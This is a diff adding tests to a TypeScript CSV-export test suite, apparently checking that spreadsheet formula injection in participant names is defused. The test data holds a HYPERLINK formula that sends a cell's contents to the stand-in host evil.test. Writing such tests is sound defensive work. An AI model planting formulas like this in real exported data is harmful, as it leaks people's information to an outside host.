@@ -237,6 +237,28 @@ describe('GET /api/progress/csv', () => {
     // A name that opens with = reaches a spreadsheet as text, not as a formula.
     expect(parsed.data.find((row) => row['E-mail'] === 'zoe@hotel.test')!.Name).toBe('\'=HYPERLINK("http://evil.test","Zoe")');
   });
+
+  it('defuses a formula that runs over two lines, as a name stored before names were kept to one line would', async () => {
+    const json = person(await progressOf(host), PRIYA)!;
+    const twoLines = '=HYPERLINK("http://evil.test/?leak="&B2,"Open")\nx';
+    const csv = progressCsv([{ ...json, name: twoLines, email: ' @evil.test' } as ParticipantProgress]);
+    const parsed = Papa.parse<Record<string, string>>(csv.replace(/^\ufeff/, '').trim(), { header: true });
+    expect(parsed.data[0]!.Name).toBe(`'${twoLines}`);
+    expect(parsed.data[0]!['E-mail']).toBe("' @evil.test");
+  });
+
+  it('keeps a name on one line at entry: a two-line name joins as one line', async () => {
+    const joined = await h.call('POST', '/api/user/addMember', {
+      body: {
+        name: '=HYPERLINK("http://evil.test/?leak="&B2,"Open")\nx',
+        email: 'two.lines@hotel.test',
+        phone: '+91 98470 12345',
+        sessionCode: DEMO_GAME_CODE,
+      },
+    });
+    expect(joined.status, joined.json.message).toBe(201);
+    expect(joined.json.data.user.name).toBe('=HYPERLINK("http://evil.test/?leak="&B2,"Open") x');
+  });
 });
 
 describe('GET /api/progress/mine', () => {
